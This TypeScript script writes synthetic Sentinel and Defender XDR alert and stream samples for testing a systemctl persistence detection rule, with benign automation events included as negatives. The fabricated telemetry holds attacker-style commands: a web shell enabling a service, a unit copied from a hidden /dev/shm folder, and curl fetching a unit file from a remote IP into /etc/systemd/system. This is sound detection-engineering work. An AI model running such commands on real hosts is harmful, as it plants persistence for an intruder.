/**
 * Writes samples/*.json: bodies of hub messages as Sentinel and Defender XDR would publish them, of our own
 * making. The name of a file says what happened; each is another form of the ones that are read.
 *
 * Usage: node scripts/make-samples.ts
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { argv } from 'node:process';
import { fileURLToPath } from 'node:url';
import {
  type AlertParts,
  customDetails,
  type Row,
  rawRowAlert,
  scheduledQuery,
  singleAlert,
  streamRecord,
} from '../test/support/sentinel-alert.ts';

const query = readFileSync(new URL('../rules/systemctl.kql', import.meta.url), 'utf8');
const workspace = '5f1d7c3a-2b64-4c1e-9d0f-3a7b8c9d0e1f';
const rule = 'c4b2a190-6e5d-4f3c-8b7a-1d2e3f405162';

/** A GUID of our own making, told apart by its last digits. */
const guid = (number: number) => `d0c0ffee-5a3e-4b1c-9f2d-${String(number).padStart(12, '0')}`;

const parts = (number: number, row: Row, more: AlertParts = {}): AlertParts => ({
  id: guid(number),
  time: String(row['Timestamp']),
  workspace,
  rule,
  entities: entitiesOf(row),
  ...more,
  properties: { OriginalQuery: query, ...more.properties },
});

/** An alert for each event, with the whole row that the query returned. */
const perEvent = (number: number, row: Row, properties: AlertParts['properties'] = {}) =>
  rawRowAlert(row, parts(number, row, { properties }));

/** One alert for all rows of a run. Sentinel writes no `OriginalQuery` for these. */
function perRun(number: number, rows: readonly [Row, ...Row[]]): Record<string, unknown> {
  const [row] = rows;
  const now = new Date(Date.parse(String(row['Timestamp'])) + 10 * 60_000).toISOString();
  const properties = { OriginalQuery: undefined, Query: scheduledQuery(query, now) };
  return singleAlert(rows, parts(number, row, { properties }));
}

/** The mapping of a scheduled rule sets no links; Sentinel drops an account named root. */
function entitiesOf(row: Row): readonly unknown[] {
  const [HostName, ...domain] = String(row['DeviceName']).split('.');
  const account = row['AccountName'] ?? row['InitiatingProcessAccountName'];
  return [
    { $id: '1', Type: 'host', HostName, DnsDomain: domain.join('.'), OSFamily: 'Linux' },
    ...(account === undefined || account === 'root' ? [] : [{ $id: '2', Type: 'account', Name: account }]),
    { $id: '3', Type: 'process', CommandLine: row['ProcessCommandLine'] },
  ];
}

const WEB_APP = 'WebApp_Process_Spawned_Systemctl';
const UNIT_FILE = 'Suspicious_Service_Unit_File_Created';
const UNPRIVILEGED = 'Unprivileged_Systemctl_Service_Enable';

/** The columns that the shipped rule returns besides those that every deployment of it does. */
const whole = (row: Row, deviceId: string, reportId: number): Row => ({
  ...row,
  SourceTable: row['DetectionBranch'] === UNIT_FILE ? 'DeviceFileEvents' : 'DeviceProcessEvents',
  ...(row['DetectionBranch'] === UNIT_FILE
    ? {}
    : { ActionType: 'ProcessCreated', FileName: 'systemctl', FolderPath: '/usr/bin/systemctl' }),
  InitiatingProcessAccountName: row['AccountName'] ?? '',
  DeviceId: deviceId.repeat(20),
  ReportId: reportId,
});

const webShell: Row = {
  Timestamp: '2026-01-15T09:14:02.481Z',
  DeviceName: 'shop-web-02.example.com',
  AccountName: 'www-data',
  ProcessCommandLine: 'systemctl enable --now php-sessionclean2.service',
  InitiatingProcessFileName: 'sh',
  InitiatingProcessCommandLine: "sh -c 'systemctl enable --now php-sessionclean2.service 2>&1'",
  InitiatingProcessParentFileName: 'php-fpm8.2',
  DetectionBranch: WEB_APP,
};

const memoryUnit: Row = {
  Timestamp: '2026-01-15T10:02:47.113Z',
  DeviceName: 'batch-07.example.com',
  AccountName: 'root',
  ProcessCommandLine: 'cp /dev/shm/.x/netplan-sync.service /etc/systemd/system/netplan-sync.service',
  InitiatingProcessFileName: 'cp',
  InitiatingProcessCommandLine:
    'cp /dev/shm/.x/netplan-sync.service /etc/systemd/system/netplan-sync.service',
  InitiatingProcessParentFileName: 'bash',
  DetectionBranch: UNIT_FILE,
};

const ansible: Row = {
  Timestamp: '2026-01-15T04:00:11.920Z',
  DeviceName: 'proxy-01.example.com',
  AccountName: 'root',
  ProcessCommandLine: '/usr/bin/systemctl enable haproxy',
  InitiatingProcessFileName: 'python3.11',
  InitiatingProcessCommandLine:
    '/usr/bin/python3.11 /root/.ansible/tmp/ansible-tmp-1768449610.8821-41207-98120374615523/AnsiballZ_systemd.py',
  InitiatingProcessParentFileName: 'sh',
  DetectionBranch: WEB_APP,
};

const puppet: Row = {
  Timestamp: '2026-01-15T04:30:05.310Z',
  DeviceName: 'db-03.example.com',
  AccountName: 'root',
  ProcessCommandLine: '/usr/bin/systemctl start -- chronyd',
  InitiatingProcessFileName: 'ruby',
  InitiatingProcessCommandLine:
    '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --no-daemonize',
  InitiatingProcessParentFileName: 'systemd',
  DetectionBranch: WEB_APP,
};

const runner: Row = {
  Timestamp: '2026-01-15T11:21:38.004Z',
  DeviceName: 'gh-runner-05.example.com',
  AccountName: 'runner',
  ProcessCommandLine: 'systemctl --user enable preview-api.service',
  InitiatingProcessFileName: 'bash',
  InitiatingProcessCommandLine:
    '/usr/bin/bash -e /opt/actions-runner/_work/_temp/7d1f0a52-93c4-4e0b-8a6e-5b2c1d3e4f60.sh',
  InitiatingProcessParentFileName: 'Runner.Worker',
  DetectionBranch: UNPRIVILEGED,
};

const postinst: Row = {
  Timestamp: '2026-01-15T05:12:59.640Z',
  DeviceName: 'mail-01.example.com',
  AccountName: 'root',
  ProcessCommandLine: 'systemctl --system start postfix.service',
  InitiatingProcessFileName: 'perl',
  InitiatingProcessCommandLine: '/usr/bin/perl /usr/bin/deb-systemd-invoke start postfix.service',
  InitiatingProcessParentFileName: 'postfix.postinst',
  DetectionBranch: WEB_APP,
};

const adminOverSsh: Row = {
  Timestamp: '2026-01-15T13:45:20.775Z',
  DeviceName: 'jump-01.example.com',
  AccountName: 'mmeyer',
  ProcessCommandLine: 'systemctl --user enable ssh-agent.service',
  InitiatingProcessFileName: 'bash',
  InitiatingProcessCommandLine: '-bash',
  InitiatingProcessParentFileName: 'sshd-session',
  DetectionBranch: UNPRIVILEGED,
};

const javaScheduler: Row = {
  Timestamp: '2026-01-15T02:00:00.350Z',
  DeviceName: 'app-14.example.com',
  AccountName: 'root',
  ProcessCommandLine: 'systemctl start invoice-export.service',
  InitiatingProcessFileName: 'java',
  InitiatingProcessCommandLine: '/usr/lib/jvm/java-21/bin/java -jar /srv/billing/scheduler.jar',
  InitiatingProcessParentFileName: 'systemd',
  DetectionBranch: WEB_APP,
};

const curledUnit = {
  Timestamp: '2026-01-15T14:08:31.5520913Z',
  DeviceId: '7c'.repeat(20),
  DeviceName: 'app-09.example.com',
  ReportId: 90211,
  ActionType: 'FileCreated',
  FileName: 'dbus-monitor1.service',
  FolderPath: '/etc/systemd/system/dbus-monitor1.service',
  SHA256: null,
  FileSize: 412,
  PreviousFileName: null,
  PreviousFolderPath: null,
  InitiatingProcessAccountName: 'root',
  InitiatingProcessAccountDomain: 'app-09',
  InitiatingProcessFileName: 'curl',
  InitiatingProcessFolderPath: '/usr/bin/curl',
  InitiatingProcessCommandLine:
    'curl -fsSL http://203.0.113.50:8000/u -o /etc/systemd/system/dbus-monitor1.service',
  InitiatingProcessId: 33812,
  InitiatingProcessParentId: 33790,
  InitiatingProcessParentFileName: 'bash',
  MachineGroup: null,
  AdditionalFields: null,
};

/** An event that streams beside it and that the rule does not hit. */
const harmlessFile = {
  ...curledUnit,
  Timestamp: '2026-01-15T14:08:30.1000000Z',
  ReportId: 90210,
  FileName: 'app.log',
  FolderPath: '/var/log/app/app.log',
  InitiatingProcessFileName: 'rsyslogd',
  InitiatingProcessFolderPath: '/usr/sbin/rsyslogd',
  InitiatingProcessCommandLine: '/usr/sbin/rsyslogd -n',
  InitiatingProcessParentFileName: 'systemd',
};

/** The message bodies by file name. */
export const samples: Readonly<Record<string, unknown>> = {
  // Data export, an alert per event: the rule reports the row by two of its branches.
  'web-shell-enables-unit.json': {
    records: [
      perEvent(1, whole(webShell, '3b', 51877)),
      perEvent(2, whole({ ...webShell, DetectionBranch: UNPRIVILEGED }, '3b', 51877)),
    ],
  },
  // The incident that gathers both: it may arrive before or after them.
  'web-shell-incident.json': {
    records: [
      {
        TimeGenerated: '2026-01-15T09:26:40.0000000Z',
        IncidentName: guid(900),
        IncidentNumber: 3108,
        Title: 'Detect Systemctl',
        Severity: 'Medium',
        Status: 'New',
        CreatedTime: '2026-01-15T09:25:02.0000000Z',
        LastModifiedTime: '2026-01-15T09:26:38.0000000Z',
        AlertIds: JSON.stringify([guid(1), guid(2)]),
        RelatedAnalyticRuleIds: JSON.stringify([rule]),
        ProviderName: 'Azure Sentinel',
        SourceSystem: 'Azure',
        Type: 'SecurityIncident',
        TenantId: workspace,
      },
    ],
  },
  // A deployment of the rule that returns eight columns and no more.
  'dev-shm-unit.json': { records: [perEvent(3, memoryUnit)] },
  'ansible-enables-service.json': { records: [perEvent(4, whole(ansible, 'a1', 20417))] },
  // A forwarder that sends an array; custom details beside the row.
  'github-runner-user-unit.json': [perEvent(5, runner, { 'Custom Details': customDetails([runner]) })],
  'admin-ssh-user-unit.json': { records: [perEvent(6, adminOverSsh)] },
  // One alert for all rows of a run, folded into custom details.
  'puppet-starts-service.json': { records: [perRun(7, [puppet])] },
  'dpkg-postinst-starts-service.json': { records: [perRun(8, [postinst])] },
  // A bare object.
  'java-scheduler-starts-unit.json': perRun(9, [javaScheduler]),
  // Defender XDR streaming: no alert at all, but a row that the rule would hit, and one that it would not.
  'stream-curl-writes-unit.json': {
    records: [streamRecord('DeviceFileEvents', harmlessFile), streamRecord('DeviceFileEvents', curledUnit)],
  },
};

if (argv[1] === fileURLToPath(import.meta.url)) {
  const folder = new URL('../samples/', import.meta.url);
  mkdirSync(folder, { recursive: true });
  for (const [name, body] of Object.entries(samples)) {
    writeFileSync(new URL(name, folder), `${JSON.stringify(body, null, 2)}\n`);
  }
  console.log(`${Object.keys(samples).length} samples written`);
}
